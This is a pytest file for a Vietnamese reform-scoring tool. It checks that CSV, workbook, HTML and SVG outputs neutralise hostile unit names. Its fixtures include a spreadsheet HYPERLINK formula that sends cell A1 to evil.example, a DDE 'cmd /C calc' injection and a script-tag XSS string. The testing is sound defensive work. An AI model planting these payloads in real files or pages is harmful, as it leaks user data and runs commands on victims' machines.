"""Outputs meant for spreadsheets and browsers keep a name as data: a CSV or workbook cell that
starts like a formula is never run as one, and a page shows ``<script>`` as text (each hostile
name is written here, into a copy of the Di Linh example)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from cchc_score.cli import main
from cchc_score.formats.csvfile import neutralised, restored

from .conftest import EXAMPLES

FORMULAS = {
    "di_linh": '=HYPERLINK("http://evil.example/?"&A1,"Di Linh")',
    "bao_lam": "+cmd|' /C calc'!A0",
    "bao_loc": "-2+3",
    "cat_tien": "@SUM(1)",
    "da_lat": "'=already quoted",
}


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), env={"COLUMNS": "200"})


def renamed(folder: Path, names: dict[str, str]) -> Path:
    """The Di Linh example's 2021 folder with the units of ``names`` (file stem → name)."""
    shutil.copytree(EXAMPLES / "di_linh" / "2021", folder)
    for stem, name in names.items():
        path = folder / f"{stem}.yaml"
        text = path.read_text(encoding="utf-8")
        start = text.index("\nunit: ") + 1
        end = text.index("\n", start)
        path.write_text(f"{text[:start]}unit: {json.dumps(name)}{text[end:]}", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def block(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return renamed(tmp_path_factory.mktemp("formulas") / "2021", FORMULAS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("'=x", "''=x"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("1e3", "1e3"),
        ("Huyện Đức Trọng", "Huyện Đức Trọng"),
        ("'plain", "'plain"),
        ("", ""),
    ],
)
def test_formula_text_is_neutralised_and_reads_back(value: str, written: str) -> None:
    assert neutralised(value) == written
    assert restored(written) == value


def test_rank_csv_neutralises_names_and_reads_its_own_csv_back(block: Path, tmp_path: Path) -> None:
    table = tmp_path / "league.csv"
    result = run("rank", str(block), "--csv", "-o", str(table))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8-sig"))))
    units = {row["unit_id"]: row["unit"] for row in rows}
    assert units == {
        **{row["unit_id"]: row["unit"] for row in rows if row["unit_id"] not in FORMULAS},
        **{stem: "'" + name for stem, name in FORMULAS.items()},
    }
    # Figures stay numbers a spreadsheet can add up.
    assert all(row["total"][0].isdigit() for row in rows)
    again = run("rank", str(table), "--json")
    assert again.exit_code == 0, again.output
    (league,) = json.loads(again.stdout)["blocks"]
    names = {s["unit_id"]: s["unit"] for s in league["standings"]}
    assert {stem: names[stem] for stem in FORMULAS} == FORMULAS
    assert run("rank", str(table), "--csv").stdout == table.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("layout", ["table", "phu-luc"])
def test_rank_workbooks_store_formula_text_as_text(
    block: Path, tmp_path: Path, layout: str
) -> None:
    out = tmp_path / "league.xlsx"
    result = run("rank", str(block), "-o", str(out), "--layout", layout)
    assert result.exit_code == 0, result.output
    shown = {
        cell.value: cell.data_type
        for ws in openpyxl.load_workbook(out).worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert {name: shown.get(name) for name in FORMULAS.values()} == dict.fromkeys(
        FORMULAS.values(), "s"
    )
    with zipfile.ZipFile(out) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


SCRIPT = '<script>alert("x")</script> & <b>Di Linh</b>'


def test_the_web_league_page_shows_a_script_in_a_name_as_text(tmp_path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # starlette's note on its httpx-based client
        from fastapi.testclient import TestClient

    from cchc_score.web import create_app

    folder = renamed(tmp_path / "2021", {"di_linh": SCRIPT})
    client = TestClient(create_app([folder]))
    for page in ("/", "/unit/di_linh.yaml"):
        html = client.get(page).text
        assert "<script>alert" not in html and "<b>Di Linh" not in html, page
        assert "&lt;script&gt;alert(" in html, page


def test_an_exported_terminal_report_escapes_a_name() -> None:
    from cchc_score.cli.export import render_export
    from cchc_score.render.common import plain

    html = render_export(plain(SCRIPT), ".html", title=SCRIPT)
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    svg = render_export(plain(SCRIPT), ".svg", title=SCRIPT)
    assert "<script>alert" not in svg


def test_the_self_assessment_form_stores_a_packs_formula_labels_as_text(tmp_path: Path) -> None:
    from cchc_score import load_criteria_set
    from cchc_score.workbook import write_workbook

    text = (EXAMPLES / "minimal" / "criteria.yaml").read_text(encoding="utf-8")
    label = '=HYPERLINK("http://evil.example/","Ban hành")'
    text = text.replace("label_vi: Ban hành kế hoạch CCHC năm", f"label_vi: {json.dumps(label)}")
    text = text.replace("title_vi: Bộ chỉ số mẫu (tối giản)", 'title_vi: "=1+1"')
    pack = tmp_path / "criteria.yaml"
    pack.write_text(text, encoding="utf-8")
    out = write_workbook(tmp_path / "form.xlsx", load_criteria_set(pack))
    cells = [
        cell
        for ws in openpyxl.load_workbook(out).worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value in (label, "=1+1")
    ]
    assert {cell.value for cell in cells} == {label, "=1+1"}
    assert all(cell.data_type == "s" for cell in cells)
